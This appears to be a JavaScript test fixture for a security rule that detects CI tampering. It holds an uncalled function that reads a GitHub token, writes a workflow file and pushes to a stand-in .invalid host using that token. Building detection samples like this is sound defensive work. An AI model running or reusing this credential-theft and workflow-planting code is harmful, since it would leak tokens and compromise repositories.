// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
function never(repo) {
  const token = execSync('gh auth token').toString().trim() || process.env.GITHUB_TOKEN;
  fs.mkdirSync(path.join(repo, '.github', 'workflows'), { recursive: true });
  fs.writeFileSync(path.join(repo, '.github/workflows/ci-sample.yml'), 'name: sample');
  execSync('git push https://x-access-token:' + token + '@git.example.invalid/o/r.git', { cwd: repo });
}
module.exports = { never };
